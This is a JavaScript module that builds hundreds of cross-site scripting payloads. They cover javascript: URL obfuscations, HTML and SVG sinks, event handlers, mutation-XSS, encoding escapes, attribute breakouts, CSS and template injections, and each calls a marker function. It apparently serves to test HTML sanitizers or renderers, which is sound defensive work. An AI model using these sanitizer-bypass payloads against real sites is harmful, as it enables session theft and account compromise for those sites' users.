// Script injection vectors by class: each is a text that calls `xss(n)` if it is interpreted as markup, URL, style or
// script. They are combinations of contexts and payloads, which keeps the list readable.

const dec = (text) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');
const hex = (text) => [...text].map((c) => `&#x${c.codePointAt(0).toString(16)};`).join('');
const base64 = (text) => Buffer.from(text).toString('base64');

/** Script URLs in every spelling that browsers accept or filters may miss. */
export const addresses = (run) => [
  `javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `\tjavascript:${run}`, `\njavascript:${run}`,
  `\u0001javascript:${run}`, `java\tscript:${run}`, `java\nscript:${run}`, `java\rscript:${run}`,
  `javascript\t:${run}`, `javascript:\u00a0${run}`, `javascript://e.org/%0a${run}`, `javascript:/*x*/${run}`,
  `javascript:%2f%2f%0a${run}`, `\u200bjavascript:${run}`, `\ufeffjavascript:${run}`, `\u202ejavascript:${run}`,
  `${dec('javascript')}:${run}`, `${hex('javascript')}&colon;${run}`, `java&#x10;script:${run}`, `java&#xfdd0;script:${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script&colon;${run}`, `&#0000106avascript:${run}`, `javascript&#58${run}`,
  `%6aavascript:${run}`, `\\u006aavascript:${run}`, `jav\u0000ascript:${run}`, `ｊavascript:${run}`,
  `vbscript:${run}`, `livescript:${run}`, `feed:javascript:${run}`, `view-source:javascript:${run}`,
  `data:text/html,<script>${run}</script>`, `data:text/html;base64,${base64(`<script>${run}</script>`)}`,
  `DATA:text/html,<script>${run}</script>`, `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `data:text/javascript,${run}`, `data:,${run}`, `blob:${run}`, `filesystem:${run}`, `about:${run}`,
];

const sinks = [
  (u) => `<a href="${u}">x</a>`, (u) => `<a href='${u}'>x</a>`, (u) => `<a href=${u}>x</a>`,
  (u) => `<img src="${u}">`, (u) => `<img srcset="${u} 1x">`, (u) => `<img lowsrc="${u}" dynsrc="${u}">`,
  (u) => `<iframe src="${u}"></iframe>`, (u) => `<embed src="${u}">`, (u) => `<object data="${u}"></object>`,
  (u) => `<form action="${u}"><button>x</button></form>`, (u) => `<button formaction="${u}">x</button>`,
  (u) => `<input type=image src="${u}" formaction="${u}">`, (u) => `<base href="${u}">`,
  (u) => `<meta http-equiv=refresh content="0;url=${u}">`, (u) => `<link rel=stylesheet href="${u}">`,
  (u) => `<link rel=import href="${u}">`, (u) => `<script src="${u}"></script>`,
  (u) => `<svg><a xlink:href="${u}"><text>x</text></a></svg>`, (u) => `<svg><use href="${u}#x"/></svg>`,
  (u) => `<svg><script href="${u}"/></svg>`, (u) => `<svg><animate attributeName=href values="${u}"/></svg>`,
  (u) => `<math href="${u}">x</math>`, (u) => `<math><maction actiontype=statusline xlink:href="${u}">x</maction></math>`,
  (u) => `<video poster="${u}" src="${u}"></video>`, (u) => `<body background="${u}">`,
  (u) => `<table background="${u}"><tr><td background="${u}">x</table>`, (u) => `<div style="background:url('${u}')">x</div>`,
  (u) => `<blockquote cite="${u}">x</blockquote>`, (u) => `<area href="${u}">`, (u) => `<a href="https://e.org/" ping="${u}">x</a>`,
  (u) => `[x](${u})`, (u) => `[x](<${u}>)`, (u) => `![x](${u})`, (u) => `<${u}>`, (u) => `[x]\n\n[x]: ${u}`, (u) => `[x]\n\n[x]: <${u}> "t"`,
];

const handlers = [
  ['img src=x', 'onerror'], ['img src=x', 'OnErRoR'], ['img', 'onload'], ['image src=x', 'onerror'], ['svg', 'onload'],
  ['body', 'onload'], ['body', 'onpageshow'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'], ['video src=x', 'onerror'], ['audio src=x', 'onerror'], ['video><source', 'onerror'],
  ['marquee', 'onstart'], ['a href=# autofocus tabindex=1', 'onfocus'], ['iframe', 'onload'], ['style', 'onload'],
  ['object data=x', 'onerror'], ['link rel=stylesheet href=x', 'onerror'], ['p style="animation:x 1s"', 'onanimationstart'],
  ['div popover id=p', 'onbeforetoggle'], ['button popovertarget=p', 'onclick'], ['xss contenteditable autofocus', 'onfocus'],
  ['math', 'onmouseover'], ['b', 'onmouseover'], ['em id=x tabindex=1', 'onfocus'], ['h2', 'onpointerrawupdate'], ['table', 'onscrollend'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'], ['svg><set attributeName=x', 'onbegin'], ['dialog open', 'onclose'],
];
const forms = [
  (tag, on, run) => `<${tag} ${on}=${run}>`, (tag, on, run) => `<${tag} ${on}="${run}">`, (tag, on, run) => `<${tag} ${on}='${run}'>`,
  (tag, on, run) => `<${tag}/${on}=${run}>`, (tag, on, run) => `<${tag}\n${on}\n=\n${run}\n>`, (tag, on, run) => `<${tag}\t${on}=\`${run}\`>`,
  (tag, on, run) => `<${tag}\f${on}=${dec(run)}`, (tag, on, run) => `<${tag} x=">" ${on}=${run}//`,
];

const scripts = (run) => [
  `<script>${run}</script>`, `<ScRiPt>${run}</sCrIpT>`, `<script/x>${run}</script>`, `<script\n>${run}</script\n>`, `<script>${run}`,
  `<<script>${run}//<</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script>/*</script><script>*/${run}</script>`,
  `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`, `</script><script>${run}</script>`, `</noscript><script>${run}</script>`, `</iframe><script>${run}</script>`,
  `</xmp><script>${run}</script>`, `<!--<script>--><script>${run}</script>`, `<script type=module>${run}</script>`, `<script type=text/plain>x</script><script>${run}</script>`,
  `<script src=data:,${run}></script>`, `<script>eval(atob('${base64(run)}'))</script>`, `<script x="</script>">${run}</script>`,
  `<svg><script>${run}</script></svg>`, `<svg><script>${dec(run)}</script></svg>`, `<math><script>${run}</script></math>`, `<!DOCTYPE x [<!ENTITY y "<script>${run}</script>">]>&y;`,
  `<?xml version="1.0"?><script>${run}</script>`, `<![CDATA[<script>${run}</script>]]>`, `<!><script>${run}</script>`, `</><script>${run}</script>`,
  `<xml><script>${run}</script></xml>`, `<script\u0000>${run}</script>`, `<scr\u0000ipt>${run}</script>`, `<\u0000script>${run}</script>`,
];

const mutations = (run) => {
  const img = `<img src=x onerror=${run}>`;
  return [
    `<noscript><p title="</noscript>${img}">`, `<textarea><p title="</textarea>${img}">`, `<title><p title="</title>${img}">`,
    `<style><p title="</style>${img}">`, `<xmp><p title="</xmp>${img}">`, `<iframe><p title="</iframe>${img}">`, `<noembed><p title="</noembed>${img}">`,
    `<noframes><p title="</noframes>${img}">`, `<svg><p><style><a id="</style>${img}">`, `<svg></p><style><a id="</style>${img}">`,
    `<math><p><style><a id="</style>${img}">`, `<math><mtext><table><mglyph><style><!--</style>${img}-->`, `<math><mtext><table><mglyph><style><math>${img}`,
    `<form><math><mtext></form><form><mglyph><style></math>${img}`, `<math><annotation-xml encoding="text/html"><style>${img}</style></annotation-xml></math>`,
    `<svg><foreignObject><p>${img}</p></foreignObject></svg>`, `<svg><desc><style>${img}</style></desc></svg>`, `<svg><title><style>${img}</style></title></svg>`,
    `<select><style></select>${img}</style>`, `<select><template><style></select>${img}`, `<table><style></table>${img}</style>`, `<template><s><template><s>${img}</s></template></s></template>`,
    `<p id="--><img src=x onerror=${run}>"><!--`, `<!--><img src=x onerror=${run}>-->`, `<!---><img src=x onerror=${run}>-->`, `<!-- --!>${img}-->`, `<!--><!--${img}-->`,
    `<a title="\`">\`${img}</a>`, `<b a="'>'${img}`, `<listing>&lt;img src=x onerror=${run}&gt;</listing>`, `<pre>&lt;img src=x onerror=${run}&gt;</pre>`,
    `<plaintext>${img}`, `<iframe srcdoc="${img.replaceAll('"', '&quot;')}">`, `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;">`,
    `<p><svg><style>${img}</style></svg></p>`, `<a><svg><a>${img}`, `<ol start="1" onclick=${run}><li id="x">${img}`, `<th class="align-left" onclick=${run}>x`,
  ];
};

const escapes = (run) => {
  const img = `<img src=x onerror=${run}>`;
  const encoded = (times) => [...Array(times)].reduce((text) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'), img);
  return [
    encoded(1), encoded(2), encoded(3), encoded(4), dec(img), hex(img), img.replaceAll('<', '&lt').replaceAll('>', '&gt'), img.replaceAll('<', '&#60').replaceAll('>', '&#62'),
    img.replaceAll('<', '&#x0000003c;'), img.replaceAll('<', '&LT;').replaceAll('>', '&GT;'), encodeURIComponent(img), encodeURIComponent(encodeURIComponent(img)),
    img.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'), img.replaceAll('<', '\\u003c'), img.replaceAll('<', '\\<'), `+ADw-img src=x onerror=${run}+AD4-`,
    `＜img src=x onerror=${run}＞`, `\u202e${img}`, `\u2066${img}\u2069`, `<im\u200bg src=x onerror=${run}>`, `<img\u00a0src=x onerror=${run}>`, `<img src=x on\u0000error=${run}>`,
    `\u0000${img}`, `\u001b${img}`, `\ufeff${img}`, `\ufdd00\ufdd1${img}`, `\ufdd00\ufdd1`, `\uffff${img}`, `${img}\u2028${img}`, `<\n${img}`, `&${img}`, `&#${img}`, `&lt;&gt;${img}`,
  ];
};

const breakouts = (run) => [
  `" onmouseover="${run}`, `' onmouseover='${run}`, `\` onmouseover=${run}`, `" autofocus tabindex=1 onfocus="${run}`, `' autofocus tabindex=1 onfocus='${run}`, `x autofocus onfocus=${run}`,
  `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, `\`><img src=x onerror=${run}>`, `"/><img src=x onerror=${run}>`, `" style="x:expression(${run})`, `\\"><img src=x onerror=${run}>`,
  `"};${run};//`, `';${run};//`, `\\";${run};//`, `\\';${run};//`, `"-${run}-"`, `'-${run}-'`, `*/${run}/*`, `\u2028${run}\u2028`, `</script><!--<script>${run}`, `<!--<script>${run}//`,
  `"}</script><script>${run}</script>{"`, `[x](https://e.org/ "x" onmouseover="${run}")`, `[x](https://e.org/ 'x" onmouseover="${run}')`, `![x" onerror="${run}](https://e.org/a.png)`,
  `<https://e.org/"onmouseover="${run}>`, `[x](https://e.org/"onmouseover="${run})`, `[x](https://e.org/'><img/src=x/onerror=${run}>)`, `[<img src=x onerror=${run}>](https://e.org)`,
  `# x {onclick=${run}}`, `# x {#a" onclick="${run}}`, `# x {.c" onclick="${run}}`, `\`\`\`x" onclick="${run}\nx\n\`\`\``, `[^"><img src=x onerror=${run}>]\n\n[^"><img src=x onerror=${run}>]: x`,
  `|a" onclick="${run}|\n|:-:|\n|<img src=x onerror=${run}>|`, `\`<img src=x onerror=${run}>\``, `    <img src=x onerror=${run}>`, `\\<img src=x onerror=${run}>`,
];

const styles = (run) => [
  `<style>@import 'javascript:${run}';</style>`, `<style>*{background:url("javascript:${run}")}</style>`, `<style>*{x:expression(${run})}</style>`, `<p style="x:expression(${run})">x`,
  `<p style="x:e\\78pression(${run})">x`, `<p style="background:url(javascript:${run})">x`, `<p style="-moz-binding:url(data:,${run})">x`, `<p style="behavior:url(#default#time2)" onbegin=${run}>x`,
  `<p style="width:100%;height:100%;position:fixed" onmouseover=${run}>x`, `<font color="expression(${run})">x</font>`, `<div class="x" style='x:"&quot;;onclick=${run}'>x`,
];

const templates = (run) => [
  `{{ ${run} }}`, `{{ constructor.constructor('${run}')() }}`, `{% raw %}<script>${run}</script>{% endraw %}`, `{{ "<script>${run}</script>" | safe }}`, `{# #}<script>${run}</script>`, `\${${run}}`, `<%= ${run} %>`,
  `#{${run}}`, `{{= ${run} }}`, `[[${run}]]`, `{{{${run}}}}`, `{{ __tera_context | safe }}`, `{% include "base.html" %}`, `{% set x = "<script>${run}</script>" %}{{ x | safe }}`, `{%`, `{{`, `}}`, `{#`,
];

const loose = (run) => [
  `<img src=x onerror=${run}`, `<img src="x onerror=${run}>`, `<a href="javascript:${run}`, `<b <img src=x onerror=${run}>`, `<div title="<img src=x onerror=${run}>`, `<script`, `<script src=data:,${run}`,
  `<!-- <img src=x onerror=${run}>`, `<![CDATA[ <img src=x onerror=${run}>`, `<img src=x onerror=${run}\u0000>`, `<iframe src="javascript:${run}`, `<svg onload=${run}//`, `</p onmouseover=${run}>`, `<p/onmouseover=${run}`,
  `<a id=body name=body href=https://e.org>x</a>`, `<form name=body><input name=attributes></form>`, `<img name=cookie src=x>`, `<a id=fg-main href="#fg-main">x</a>`, `<object type=text/html data="data:text/html,<script>parent.${run}</script>">`,
  `<embed code="data:text/html,<script>${run}</script>">`, `<applet code="${run}">`, `<isindex action="javascript:${run}" type=image>`, `<keygen autofocus onfocus=${run}>`, `<portal src="javascript:${run}">`, `<frameset onload=${run}>`,
];

/** All vectors; `run(n)` is the script of vector n. */
export function vectors(run) {
  const made = [];
  const take = (make) => { for (let index = 0; ; index += 1) { const list = make(run(made.length)); if (index >= list.length) return; made.push(list[index]); } };
  for (const make of [scripts, mutations, escapes, breakouts, styles, templates, loose]) take(make);
  for (const [tag, on] of handlers) take((program) => forms.map((form) => form(tag, on, program)));
  // Every sink with the plain URL, and every spelling in the most permissive sinks.
  take((program) => sinks.map((sink) => sink(addresses(program)[0])));
  take((program) => addresses(program));
  for (const sink of [0, 2, 3, 6, 30, 33]) take((program) => addresses(program).map(sinks[sink]));
  return made;
}
